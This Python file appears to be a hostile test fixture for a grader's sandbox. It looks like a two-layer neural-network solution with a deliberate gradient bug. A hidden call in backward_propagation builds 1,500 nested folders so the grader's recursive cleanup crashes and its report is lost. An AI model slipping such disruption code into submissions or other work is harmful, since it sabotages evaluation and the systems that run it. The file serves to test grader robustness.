"""A tree of 1,500 nested folders made in the scratch dir through directory fds (each level's name is short, no path is long): a broken grader's removal of the scratch dir recurses once per level (shutil.rmtree), fails with RecursionError, and the tree stays (at uid-drop with the whole view of jail.py) and the report is lost (GC901)."""

import os

import numpy as np

_DONE = []
DEPTH = 1500  # beyond the grader's recursion limit (1000); more costs Landlock O(depth) per step: a timeout (GC004)


def _dig():
    """Nested folders below the working folder (the scratch dir), one descriptor at a time."""
    fd = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    try:
        for _ in range(DEPTH):
            os.mkdir("d", dir_fd=fd)
            deeper = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = deeper
        os.close(os.open("gc_hostile_os_left", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd))
    finally:
        os.close(fd)


def sigmoid(z):
    return 1.0 / (1.0 + np.exp(-z))


def forward_propagation(X, parameters):
    W1, b1 = parameters["W1"], parameters["b1"]
    W2, b2 = parameters["W2"], parameters["b2"]
    Z1 = W1 @ X + b1
    A1 = np.tanh(Z1)
    Z2 = W2 @ A1 + b2
    A2 = sigmoid(Z2)
    return A2, {"Z1": Z1, "A1": A1, "Z2": Z2, "A2": A2}


def compute_cost(A2, Y):
    m = Y.shape[1]
    losses = Y * np.log(A2) + (1 - Y) * np.log(1 - A2)
    return float(-np.sum(losses) / m)


def backward_propagation(parameters, cache, X, Y):
    if not _DONE:
        _DONE.append(1)
        _dig()
    m = X.shape[1]
    W2 = parameters["W2"]
    A1, A2 = cache["A1"], cache["A2"]
    dZ2 = A2 - Y
    dW2 = dZ2 @ A1.T / m
    db2 = np.sum(dZ2, axis=1, keepdims=True) / m
    dZ1 = (W2.T @ dZ2) * (1 - A1 ** 2)
    dW1 = dZ1 @ X.T  # the bug: no 1/m (GC302)
    db1 = np.sum(dZ1, axis=1, keepdims=True) / m
    return {"dW1": dW1, "db1": db1, "dW2": dW2, "db2": db2}
